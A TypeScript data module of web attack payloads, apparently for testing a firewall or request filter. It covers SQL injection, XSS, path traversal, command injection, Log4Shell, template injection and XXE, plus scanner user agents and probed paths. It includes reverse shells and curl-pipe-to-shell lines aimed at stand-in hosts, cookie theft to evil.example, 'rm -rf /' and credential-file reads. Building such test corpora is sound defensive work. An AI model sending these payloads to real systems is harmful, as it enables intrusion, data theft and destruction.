// Attacks as scanners and people send them, by class. Public knowledge: the testing guide of OWASP,
// PayloadsAllTheThings, the documentation of the rule set. One per line.

const lines = (text: string): string[] =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '');

/** Sent as the value of a parameter: in the query, or as a string in JSON, by turns. */
export const values: Readonly<Record<string, readonly string[]>> = {
  'SQL injection': lines(String.raw`
    ' OR '1'='1
    ' OR 1=1 --
    ' OR 1=1#
    " OR "a"="a
    1' OR '1'='1' /*
    admin'--
    admin' OR 1=1 LIMIT 1 --
    1 UNION SELECT NULL,NULL,NULL --
    1' UNION ALL SELECT username, password FROM users --
    -1 UNION SELECT 1,@@version,3
    1; DROP TABLE users --
    1'; DELETE FROM sessions; --
    1'; INSERT INTO users VALUES ('x','y'); --
    1'; UPDATE users SET role='admin' --
    1 AND SLEEP(5)
    1' AND SLEEP(5) AND '1'='1
    1; WAITFOR DELAY '0:0:5' --
    1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)
    1' AND pg_sleep(5) --
    1; SELECT pg_sleep(10)
    1' AND 1=CONVERT(int,(SELECT @@version)) --
    1' AND extractvalue(1,concat(0x7e,version())) --
    1' AND updatexml(1,concat(0x7e,user()),1) --
    1 AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64
    1' ORDER BY 10 --
    1' GROUP BY 1,2,3 HAVING 1=1 --
    1' AND (SELECT COUNT(*) FROM information_schema.tables)>0 --
    ' UNION SELECT table_name FROM information_schema.tables --
    1'; EXEC xp_cmdshell('whoami') --
    1 OR benchmark(10000000,MD5(1))
    1'||(SELECT current_database())||'
    1/**/UNION/**/SELECT/**/1,2,3
    1'+UNION+SELECT+1,2,3--+
    x' AND email IS NULL; --
    1 PROCEDURE ANALYSE()
    1' INTO OUTFILE '/var/www/shell.php' --
    load_file('/etc/passwd')
    1' AND '1' LIKE '1`),
  'cross-site scripting': lines(String.raw`
    <script>alert(1)</script>
    <SCRIPT SRC=//evil.example/x.js></SCRIPT>
    <img src=x onerror=alert(1)>
    <svg onload=alert(1)>
    <svg/onload=alert(document.domain)>
    <body onload=alert(1)>
    <iframe src="javascript:alert(1)"></iframe>
    <a href="javascript:alert(1)">x</a>
    "><script>alert(document.cookie)</script>
    '"><img src=x onerror=prompt(1)>
    <input autofocus onfocus=alert(1)>
    <details open ontoggle=alert(1)>
    <video><source onerror=alert(1)>
    <math><mtext><script>alert(1)</script></mtext></math>
    <object data="data:text/html,<script>alert(1)</script>">
    <embed src="javascript:alert(1)">
    <form action="javascript:alert(1)"><input type=submit>
    <marquee onstart=alert(1)>
    <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
    <link rel=stylesheet href="javascript:alert(1)">
    <style>@import 'javascript:alert(1)';</style>
    <div style="background:url(javascript:alert(1))">
    <base href="javascript:alert(1)//">
    <img src=x:alert(alt) onerror=eval(src) alt=1>
    <script>fetch('//evil.example/?c='+document.cookie)</script>
    <svg><animate onbegin=alert(1) attributeName=x dur=1s>
    javascript:alert(1)//
    <img """><script>alert("x")</script>">
    <isindex type=image src=1 onerror=alert(1)>
    <button formaction=javascript:alert(1)>x
    <x onclick=alert(1)>x
    <select autofocus onfocus=alert(1)>
    <audio src onerror=alert(1)>`),
  'path traversal': lines(String.raw`
    ../../../../etc/passwd
    ..\..\..\windows\win.ini
    ....//....//....//etc/passwd
    /etc/passwd
    /etc/shadow
    /proc/self/environ
    /proc/self/cmdline
    ../../../../proc/version
    ..%2f..%2f..%2fetc%2fpasswd
    %2e%2e%2f%2e%2e%2fetc%2fpasswd
    ..%c0%af..%c0%afetc/passwd
    ..%252f..%252fetc%252fpasswd
    file:///etc/passwd
    ../../.ssh/id_rsa
    ../../.env
    ../../.git/config
    ../../../../var/log/auth.log
    ../../../../root/.bash_history
    C:\boot.ini
    ../../../../windows/system32/drivers/etc/hosts
    /etc/hosts
    ../../wp-config.php
    ../../../etc/nginx/nginx.conf
    ..;/..;/manager/html
    ../../../../etc/mysql/my.cnf`),
  'remote file inclusion': lines(String.raw`
    http://192.0.2.10/shell.txt
    https://198.51.100.7/c99.txt?
    ftp://203.0.113.9/x.php
    http://evil.example/shell.php?
    http://evil.example/cmd.txt?cmd=id?
    ftp://evil.example/r57.txt?
    http://192.0.2.1:8080/x
    https://203.0.113.77/payload.bin
    http://[2001:db8::1]/x.php
    ogg://evil.example/x?
    expect://id
    php://input
    php://filter/convert.base64-encode/resource=index.php
    data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+
    zip://shell.jpg%23payload.php
    phar://archive.phar/x
    gopher://127.0.0.1:6379/_INFO
    dict://127.0.0.1:11211/stat
    http://169.254.169.254/latest/meta-data/
    http://127.0.0.1:22/`),
  'command injection': lines(String.raw`
    ; cat /etc/passwd
    | id
    || whoami
    && uname -a
    ; ls -la /
    $(id)
    $(cat /etc/passwd)
    ${'`'}id${'`'}
    ; wget http://evil.example/x.sh -O /tmp/x.sh
    ; curl http://evil.example/x.sh | sh
    | nc -e /bin/sh 192.0.2.1 4444
    ; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
    ; python -c 'import os; os.system("id")'
    ; perl -e 'system("id")'
    ; rm -rf /
    ; ping -c 10 192.0.2.1
    & dir C:\
    & type C:\boot.ini
    | powershell -enc SQBFAFgA
    ; cmd.exe /c whoami
    ; sleep 10
    ;/usr/bin/id
    ;/bin/cat /etc/shadow
    a;echo${'${IFS}'}hello
    ; cat$IFS/etc/passwd
    () { :; }; /bin/bash -c "id"
    () { ignored; }; echo vulnerable
    ; /bin/sh -c id
    | tee /tmp/x
    ; chmod 777 /tmp/x && /tmp/x`),
  'PHP injection': lines(String.raw`
    <?php system('id'); ?>
    <?php phpinfo(); ?>
    <?= shell_exec('id') ?>
    <? passthru($_GET['c']); ?>
    phpinfo()
    system('id')
    exec('whoami')
    shell_exec('ls')
    passthru('id')
    eval($_POST['x'])
    assert($_GET['x'])
    base64_decode('aWQ=')
    file_get_contents('/etc/passwd')
    fopen('/etc/passwd','r')
    include($_GET['f'])
    $_SERVER['DOCUMENT_ROOT']
    preg_replace('/x/e','system("id")','x')
    call_user_func('system','id')
    create_function('','phpinfo();')
    O:8:"stdClass":1:{s:1:"a";s:1:"b";}
    a:1:{i:0;O:4:"Evil":0:{}}
    proc_open('id',[],$p)
    popen('id','r')
    GLOBALS[x]=1`),
  'Java and Log4Shell': lines(String.raw`
    ${'${jndi:ldap://evil.example/a}'}
    ${'${jndi:rmi://evil.example/a}'}
    ${'${jndi:dns://evil.example/a}'}
    ${'${${lower:j}ndi:ldap://evil.example/a}'}
    ${'${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}'}
    ${'${${env:X:-j}ndi:ldap://evil.example/a}'}
    ${'${jndi:${lower:l}${lower:d}ap://evil.example/a}'}
    ${'${jndi:ldaps://evil.example:1389/Exploit}'}
    java.lang.Runtime.getRuntime().exec("id")
    java.lang.ProcessBuilder
    ${'#{T(java.lang.Runtime).getRuntime().exec("id")}'}
    ${"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"}
    ${"%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}"}
    class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
    new java.net.URLClassLoader
    org.apache.commons.collections.functors.InvokerTransformer
    rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==
    com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
    javax.naming.InitialContext
    java.io.File
    freemarker.template.utility.Execute`),
  'template injection': lines(String.raw`
    {{7*7}}
    {{config}}
    {{''.__class__.__mro__[2].__subclasses__()}}
    {{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}
    {{request.application.__globals__}}
    {% import os %}{{os.system('id')}}
    ${'${7*7}'}
    ${'#{7*7}'}
    <%= 7*7 %>
    <%= system('id') %>
    ${"<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}"}
    ${"${T(java.lang.Runtime).getRuntime().exec('id')}"}
    *{T(java.lang.System).getenv()}
    {{constructor.constructor('return process')()}}
    {php}echo 1;{/php}
    @(1+1)
    {{= 7*7}}
    {{#with "s" as |string|}}{{/with}}
    [[${'${7*7}'}]]
    {system('id')}`),
  'NoSQL and server-side JavaScript': lines(String.raw`
    {"$gt":""}
    {"$ne":null}
    {"$where":"sleep(5000)"}
    {"$regex":".*"}
    [$ne]=1
    ';return true;var x='
    '; while(true){}; var x='
    || 1==1//
    ' || 'a'=='a
    this.password.match(/.*/)
    db.users.find({$where:"1==1"})
    require('child_process').exec('id')
    process.mainModule.require('fs').readFileSync('/etc/passwd')
    global.process.mainModule.constructor._load('child_process').execSync('id')
    eval('2+2')
    new Function('return process')()
    __proto__[admin]=1
    constructor.prototype.admin=true
    _$$ND_FUNC$$_function(){require('child_process').exec('id')}()
    String.fromCharCode(97,98)`),
  'LDAP, XPath, mail and header injection': lines(String.raw`
    *)(uid=*))(|(uid=*
    admin)(&)
    *)(objectClass=*
    (&(objectCategory=computer)(userAccountControl=*))
    ' or count(/*)=1 or ''='
    ' or name()='username' or ''='
    x%0d%0aSet-Cookie: admin=1
    x%0d%0aLocation: http://evil.example/
    x%0d%0a%0d%0a<script>alert(1)</script>
    x%0aBcc: victim@example.org
    x%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK
    a@example.org%0aRCPT TO: b@example.org
    %0d%0aQUIT%0d%0a
    <!--#exec cmd="id" -->
    <!--#include virtual="/etc/passwd" -->
    <esi:include src="http://evil.example/"/>`),
};

/** User agents of tools that look for holes. */
export const scanners = lines(`
  sqlmap/1.7 (https://sqlmap.org)
  Nikto/2.5.0
  Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)
  Nessus SOAP
  Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
  masscan/1.3
  DirBuster-1.0-RC1
  gobuster/3.6
  WPScan v3.8
  w3af.org
  Arachni/v1.5
  Acunetix-Product
  OpenVAS
  ZmEu
  havij
  BSQLBF
  absinthe
  commix/v3.4
  fimap
  grabber
  Jorgee
  nuclei - Open-source project
  Wfuzz/3.1.0
  whatweb
  zgrab/0.x
  joomla scanner
  skipfish
  jaeles
  Fuzz Faster U Fool v2.0
  feroxbuster/2.10`);

export interface RawAttack {
  readonly method: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly raw?: string;
}
const json = { 'content-type': 'application/json' };
const xml = { 'content-type': 'application/xml' };
const body = (raw: string, headers: Readonly<Record<string, string>>): RawAttack => ({
  method: 'POST',
  path: '/v1/resources',
  headers,
  raw,
});
const get = (headers: Readonly<Record<string, string>>, path = '/v1/resources'): RawAttack => ({
  method: 'GET',
  path,
  headers,
});

/** Attacks that are no value of a parameter. */
export const requests: Readonly<Record<string, readonly RawAttack[]>> = {
  'XML external entities': [
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
    '<!DOCTYPE a PUBLIC "x" "http://evil.example/x.dtd"><a/>',
    '<!DOCTYPE l [<!ENTITY a "1"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    '<?xml version="1.0"?><methodCall><methodName>system.listMethods</methodName></methodCall>',
    '<a><![CDATA[<script>alert(1)</script>]]></a>',
    '<soap:Envelope xmlns:soap="x"><soap:Body><a>1</a></soap:Body></soap:Envelope>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]><a>&x;</a>',
  ].map((raw) => body(raw, xml)),
  'protocol attacks': [
    { method: 'TRACE', path: '/v1/resources' },
    { method: 'TRACK', path: '/v1/resources' },
    { method: 'DEBUG', path: '/v1/resources' },
    { method: 'PROPFIND', path: '/v1/resources' },
    get({ 'content-type': 'text/xml' }, '/v1/resources?scope=%00'),
    get({ range: 'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7,8-8' }),
    get({ proxy: 'http://evil.example' }),
    get({ 'lock-token': 'x' }),
    get({ 'content-range': 'bytes 0-1/2' }),
    get({}, '/v1/resources?scope=%e0%80'),
    get({}, '/v1/resources?scope=%zz'),
    get({}, '/v1/resources?scope=x%0d%0aHTTP/1.1%20200'),
    get({ 'x-x': 'GET /admin HTTP/1.1' }),
    body('x', { 'content-type': 'text/plain' }),
    body('x', { 'content-type': 'application/x-java-serialized-object' }),
    body('{"title":"x"', json),
    body('title=x', { 'content-type': 'application/x-www-form-urlencoded; charset=ibm037' }),
    body('{}', { ...json, 'content-encoding': 'gzip' }),
    body('--x\r\n\r\nx', { 'content-type': 'multipart/form-data; boundary=x' }),
    get({ connection: 'keep-alive, keep-alive' }),
  ],
  'paths of other products': [
    '/.git/config',
    '/.env',
    '/wp-login.php',
    '/phpmyadmin/index.php',
    '/cgi-bin/test.cgi',
    '/actuator/env',
    '/server-status',
    '/console',
    '/solr/admin/info/system',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/struts2-showcase/index.action',
    '/manager/html',
    '/api/jsonws/invoke',
    '/boaform/admin/formLogin',
    '/HNAP1/',
    '/..%2f..%2f..%2fetc/passwd',
    '/v1/../../../etc/passwd',
    '/v1/users/..%2f..%2fetc%2fpasswd',
    '//etc/passwd',
    '/v1/resources;/..;/admin',
    '/health/ready',
    '/metrics',
    '/v1/users%2fme',
    '/V1/users/me',
  ].map((path) => get({}, path)),
};
